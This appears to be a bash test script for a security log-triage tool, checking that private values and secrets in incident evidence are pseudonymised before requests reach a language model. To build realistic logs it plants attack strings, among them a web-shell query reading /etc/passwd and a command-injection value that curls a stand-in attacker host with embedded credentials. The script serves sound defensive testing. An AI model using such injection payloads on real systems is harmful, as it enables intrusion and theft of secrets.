#!/bin/bash
# What leaves vigil under each privacy policy.  The scripted server
# records every request; under the default policy (pseudonymise) no IP
# address, user name, host name, e-mail address or secret from the
# incident's evidence may appear in any of them, and the answer must come
# back with the real values.  Secrets, and names and addresses in unusual
# places, are planted in the demo logs.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/llm_lib.sh"

"$VIGIL_DEMO_GEN" "$T/demo" >/dev/null 2>&1
# Secrets and an e-mail address inside lines that become evidence.
sed -i -e 's#/uploads/img.php?cmd=cat%20/etc/passwd#&\&token=tok5ecret9f8e7d\&mail=victim@corp.example.com#' \
	-e 's#/api/v1/ping?host=127.0.0.1%3Bcat%20/etc/passwd#/api/v1/ping?host=127.0.0.1%3Bcurl%20http://admin:hunter2pass@files.attacker.example.net/x%20-H%20Authorization:%20Bearer%20eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl#' \
	"$T/demo/access.log"
# A user name in a URL path and a file name, an IPv4-mapped IPv6 address
# in a query, an e-mail address inside a user agent.
sed -i -e 's#/uploads/img.php?cmd=cat%20/etc/passwd#&\&from=/~deploy/backup_deploy.tgz\&peer=::ffff:198.51.100.23#' \
	-e '/img.php?cmd=cat/ s#"python-requests/2.31.0"$#"python-requests/2.31.0 (contact Ops.Contact@Example.org)"#' \
	"$T/demo/access.log"
# A user and a host name (other case) in a command line.
sed -i "s#COMMAND=/usr/bin/su -#& deploy -c '/usr/bin/mysql --password=Sup3rS3cretPw -h WEB01 --init-command=/home/deploy/init.sql'#" \
	"$T/demo/auth.log"
# A host name inside a JSON value, an IPv6 address in a JSON field.
sed -i '/"event_type":"alert"/ s#"in_iface":"eth1",#"in_iface":"eth1","sensor":"Bastion-eth1","xff":"2001:db8:85a3::8a2e:370:7334",#' \
	"$T/demo/eve.json"
"$VIGIL" analyze -q --store "$T/db" "$T"/demo/*.log "$T"/demo/*.json \
	>/dev/null 2>&1 || fail "analyze --store"
"$VIGIL" show 1 --store "$T/db" --format json >"$T/inc.json" 2>/dev/null

# Every value the evidence holds that must not leave: addresses, names,
# e-mail addresses and the planted secrets, one a line after "cs" (to be
# matched with case) or "ci" (host names and e-mail addresses: any case).
python3 - "$T/inc.json" >"$T/private.txt" <<'PY'
import ipaddress, json, re, sys
d = json.load(open(sys.argv[1]))
vals = {}
for e in d["entities"]:
    if e["type"] in ("source.ip", "user.name", "user.target.name"):
        vals[e["value"]] = "cs"
    if e["type"] in ("host.name", "source.address"):
        vals[e["value"]] = "ci"
for ev in d["evidence"]:
    t = ev["text"]
    for v in re.findall(r"\b\d{1,3}(?:\.\d{1,3}){3}\b", t):
        vals[v] = "cs"
    for v in re.findall(r"[0-9A-Fa-f:.]*:[0-9A-Fa-f:.]*", t):
        try:
            if ipaddress.ip_address(v).version == 6:
                vals[v] = "ci"
        except ValueError:
            pass
    for v in re.findall(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+", t):
        vals[v] = "ci"
    m = re.match(r"\w{3} [ \d]\d \d\d:\d\d:\d\d (\S+) ", t)
    if m:
        vals[m.group(1)] = "ci"
for v in ["tok5ecret9f8e7d", "hunter2pass", "Sup3rS3cretPw",
          "eyJhbGciOiJIUzI1NiJ9"]:
    vals[v] = "cs"
for v in ["victim@corp.example.com", "files.attacker.example.net",
          "Ops.Contact@Example.org", "2001:db8:85a3::8a2e:370:7334"]:
    vals[v] = "ci"
for v in sorted(vals):
    print(vals[v], v)
PY
check "the evidence holds private values" test "$(wc -l <"$T/private.txt")" -ge 14
check "the planted secret is in the evidence" grep -q tok5ecret "$T/inc.json"
planted() {	# planted TEXT: TEXT stands in an evidence line
	python3 -c '
import json, sys
d = json.load(open(sys.argv[1]))
sys.exit(0 if any(sys.argv[2] in e["text"] for e in d["evidence"]) else 1)
' "$T/inc.json" "$1"
}
for p in "/~deploy/backup_deploy.tgz" "::ffff:198.51.100.23" \
	"(contact Ops.Contact@Example.org)" "su - deploy -c" "-h WEB01" \
	"/home/deploy/init.sql" '"sensor":"Bastion-eth1"' \
	'"xff":"2001:db8:85a3::8a2e:370:7334"'; do
	check "planted in the evidence: $p" planted "$p"
done

leaks() {	# leaks: values of private.txt found in any request
	python3 - "$T/req.log" "$T/private.txt" <<'PY'
import json, re, sys
reqs = [json.dumps(json.loads(l)["body"]) for l in open(sys.argv[1])]
bad = 0
for line in open(sys.argv[2]).read().split("\n"):
    if not line:
        continue
    how, v = line.split(" ", 1)
    # a value stands alone or between non-alphanumeric bytes, as in
    # "/~deploy/", "backup_deploy.tgz", "-h WEB01" or "Bastion-eth1"
    pat = re.compile(r"(?<![A-Za-z0-9])" + re.escape(v) +
                     r"(?![A-Za-z0-9]|\.\d)",
                     re.I if how == "ci" else 0)
    for r in reqs:
        if pat.search(r):
            print("leaked:", v)
            bad += 1
            break
sys.exit(1 if bad else 0)
PY
}

start_server good
VIGIL_TEST_KEY=k "$VIGIL" triage --all --store "$T/db" \
	--config "$T/vigil.yaml" --format json >"$T/out.json" 2>"$T/err"
check "pseudonymise: requests were made" test "$(requests)" -ge 6
check "pseudonymise: nothing private left vigil" leaks
check "pseudonymise: tokens went out" grep -q 'IP-PUB-' "$T/req.log"
check "pseudonymise: the answer names real addresses" \
	grep -q '203\.0\.113\.4[57]' "$T/out.json"
check "pseudonymise: no token left in the answer" \
	bash -c "! grep -q 'IP-PUB-[0-9]' '$T/out.json'"
check "pseudonymise: the map key is private" \
	test "$(stat -c %a "$T/db.key")" = 600
# The sealed map keeps tokens stable from run to run.
grep -o 'IP-PUB-[0-9]*' "$T/req.log" | sort -u >"$T/tok1"
: >"$T/req.log"
VIGIL_TEST_KEY=k "$VIGIL" triage 1 --store "$T/db" --config "$T/vigil.yaml" \
	>/dev/null 2>&1
grep -o 'IP-PUB-[0-9]*' "$T/req.log" | sort -u >"$T/tok2"
check "pseudonymise: same tokens in a later run" \
	bash -c "comm -13 '$T/tok1' '$T/tok2' | grep -q . && exit 1 || exit 0"
# A store copied without its key file is refused by name, the key file
# is not made anew; with another key, the map is said not to open.
cp "$T/db" "$T/copy.db"
VIGIL_TEST_KEY=k "$VIGIL" triage 1 --store "$T/copy.db" \
	--config "$T/vigil.yaml" >/dev/null 2>"$T/copy.err"
check "pseudonymise: a store copied without its key fails" [ $? -ne 0 ]
check "pseudonymise: the missing key file is named" \
	grep -q "copy.db.key: missing" "$T/copy.err"
check "pseudonymise: no new key was made" [ ! -e "$T/copy.db.key" ]
head -c 32 /dev/urandom >"$T/copy.db.key"
chmod 600 "$T/copy.db.key"
VIGIL_TEST_KEY=k "$VIGIL" triage 1 --store "$T/copy.db" \
	--config "$T/vigil.yaml" >/dev/null 2>"$T/copy.err"
check "pseudonymise: another key is named as not opening the map" \
	grep -q "copy.db.key: the store's pseudonym map does not open" \
	"$T/copy.err"
"$VIGIL" show 1 --store "$T/db" --format json >"$T/inc2.json" 2>/dev/null
check "pseudonymise: stored trace is pseudonymised" python3 -c '
import json,sys
d=json.load(open(sys.argv[1]))
tr=[t for t in d["traces"] if t["producer"]=="llm"]
p=tr[-1]["prompt"]
sys.exit(0 if tr and "IP-PUB-" in p and "203.0.113.45" not in p and
         "tok5ecret" not in p else 1)' "$T/inc2.json"

# privacy: off sends raw values (so the leak check above can fail) but
# still no secrets.
echo "privacy: off" >>"$T/vigil.yaml"
: >"$T/req.log"
VIGIL_TEST_KEY=k "$VIGIL" triage 1 --store "$T/db" --config "$T/vigil.yaml" \
	>/dev/null 2>&1
check "off: raw addresses go out" grep -q '203\.0\.113\.4' "$T/req.log"
leaks_seen() { ! leaks >/dev/null; }
check "off: the leak check sees them" leaks_seen
check "off: secrets still removed" \
	bash -c "! grep -Eq 'tok5ecret|hunter2pass|Sup3rS3cret|eyJhbGciOiJIUzI1NiJ9' '$T/req.log'"

# privacy: none asks nothing.
sed -i 's/^privacy: off$/privacy: none/' "$T/vigil.yaml"
: >"$T/req.log"
"$VIGIL" triage 1 --store "$T/db" --config "$T/vigil.yaml" >"$T/none.txt" 2>&1
check "none: no request" test "$(requests)" = 0
check "none: deterministic, said so" \
	grep -q '(deterministic: privacy none sends nothing' "$T/none.txt"
stop_server

# The text output: why the model was not used, in words; evidence as the
# lines it names; the explanation's later lines indented; triage stats
# without verdicts to compare says so instead of 0.0%.
noconf() {	# no vigil.yaml anywhere: run from $T/none with HOME there
	mkdir -p "$T/none"
	(cd "$T/none" && env -u VIGIL_CONFIG -u XDG_CONFIG_HOME \
		HOME="$T/none" "$VIGIL" "$@")
}
noconf triage 1 --store "$T/db" >"$T/nc.txt" 2>&1
check "no model configured: said so" \
	grep -q '^incident 1: .*(deterministic: no model configured)$' \
	"$T/nc.txt"
noconf triage 1 --store "$T/db" --no-model >"$T/nm.txt" 2>&1
check "--no-model: said so" \
	grep -q '^incident 1: .*(deterministic: --no-model)$' "$T/nm.txt"
check "no 'the model was not used: no-model'" \
	[ "$(cat "$T/nc.txt" "$T/nm.txt" | grep -c 'not used: no-model')" \
	-eq 0 ]
check "evidence is not a JSON list of ids" \
	[ "$(grep -c '^  evidence: \[' "$T/nm.txt")" -eq 0 ]
check "actions are not a JSON array" \
	[ "$(grep -c '^  actions: \[' "$T/nm.txt")" -eq 0 ]
check "actions are listed one a line" grep -q '^  actions:$' "$T/nm.txt"
check "each action starts with a dash" grep -q '^    - Block ' "$T/nm.txt"
check "evidence L1 is the incident's first evidence line" python3 - \
	"$T/inc.json" "$T/nm.txt" <<'PY'
import json, sys
e = json.load(open(sys.argv[1]))["evidence"][0]
at = "%s:%d  " % (e["file"].rsplit("/", 1)[-1], e["line"])
l1 = [l for l in open(sys.argv[2]) if l.startswith("    L1 ")]
sys.exit(0 if len(l1) == 1 and at + e["text"][:60] in l1[0] else 1)
PY
check "why: continuation lines indented" python3 - "$T/nm.txt" <<'PY'
import sys
lines = open(sys.argv[1]).read().split("\n")
i = next(k for k, l in enumerate(lines) if l.startswith("  why: "))
more = []
for l in lines[i + 1:]:
    if not l.startswith("       "):
        break
    more.append(l)
# The deterministic explanation has several lines: all kept, indented.
sys.exit(0 if len(more) >= 1 and lines[i + 1 + len(more)].startswith("  ")
         else 1)
PY
"$VIGIL" analyze -q --store "$T/fresh.db" "$T"/demo/auth.log >/dev/null 2>&1
noconf triage 1 --store "$T/fresh.db" --no-model >/dev/null 2>&1
"$VIGIL" triage stats --store "$T/fresh.db" >"$T/stats0.txt" 2>&1
check "stats without llm verdicts: precision n/a" \
	grep -q '^llm precision n/a (no verdicts), false-positive rate n/a' \
	"$T/stats0.txt"
check "stats without comparisons: agreement n/a" \
	grep -q 'llm/analyst n/a (none compared)' "$T/stats0.txt"
check "stats without verdicts: no 0.0% figure" \
	[ "$(grep -c '0\.0%' "$T/stats0.txt")" -eq 0 ]
"$VIGIL" triage --help >"$T/thelp.txt"
check "triage --help states the store default" \
	grep -q 'local/share/vigil/vigil.db' "$T/thelp.txt"
finish
